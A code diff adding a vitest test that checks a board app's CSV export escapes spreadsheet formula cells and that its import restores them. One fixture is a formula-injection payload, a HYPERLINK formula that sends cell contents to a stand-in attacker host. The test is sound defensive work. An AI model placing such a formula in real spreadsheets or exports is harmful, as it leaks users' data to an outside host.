@@ -1,5 +1,6 @@
 import { engines, type TestBackend } from '@tandem/local-backend/testing';
 import { type BoardExport, csvToPlan, IMPORT_PART_SIZE, trelloFixture } from '@tandem/schemas';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ImportProgress } from '../src/index.js';
 import { startBackend } from './support/backend.js';
@@ -93,6 +94,36 @@ describe.each(engines)('board import and export on %s', (engine) => {
     const titles = async (boardId: string) =>
       (await transfer.exportJson(boardId)).tasks.map((t) => [t.title, t.labels, t.checklist]);
     expect(await titles(copy.board_id)).toEqual(await titles(source.board_id));
+  });
+
+  it('exports formula cells neutralised, and reads them back as they were', async () => {
+    const { transfer } = team.admin.client;
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
+      '+1+2',
+      '-3',
+      '@SUM(A1:A2)',
+      "'=quoted already",
+    ];
+    const ordinary = ['Plain, "quoted"', "It's fine", 'a=b', 'x-y+z @home'];
+    const source = await transfer.importBoard({
+      workspaceId: team.workspaceId,
+      board: {
+        board: { name: 'Formulas', description: null },
+        states: [{ name: 'To do', category: 'unstarted', color: '#5d5d68' }],
+        labels: [],
+        tasks: [...formulas, ...ordinary].map((title) => ({ title, state: 0 })),
+      },
+    });
+    const csv = await transfer.exportCsv(source.board_id);
+    const cells = Papa.parse<Record<string, string>>(csv, { header: true }).data.map(
+      (row) => row.Title,
+    );
+    expect(cells).toEqual([...formulas.map((title) => `'${title}`), ...ordinary]);
+    const file = await transfer.read({ name: 'Formulas.csv', text: csv });
+    if (file.format !== 'csv' || !file.mapping) throw new Error('not read as CSV');
+    const plan = csvToPlan(file.rows, file.mapping, file.name);
+    expect(plan.board.tasks.map((t) => t.title)).toEqual([...formulas, ...ordinary]);
   });
 
   it('refuses members and unreadable files', async () => {
